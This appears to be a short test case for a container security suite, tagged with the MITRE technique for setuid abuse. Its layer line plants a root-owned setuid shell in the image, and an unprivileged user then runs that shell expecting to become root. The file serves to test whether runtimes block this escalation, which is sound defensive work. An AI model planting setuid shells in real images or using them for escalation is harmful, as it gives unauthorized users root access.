# category: privilege-escalation
# technique: T1548.001
# art: yes
# expect: setuid-root-gain
# opts: --no-nnp --cap CAP_SETUID --cap CAP_SETGID
# exec-opts: --user 1000:1000
# layer: cp -p "$TOOLS/suid_shell" usr/local/bin/ && chown 0:0 usr/local/bin/suid_shell && chmod 4755 usr/local/bin/suid_shell
# desc: an unprivileged container user runs a setuid-root shell left in the image and becomes root
id
/usr/local/bin/suid_shell -c 'id'
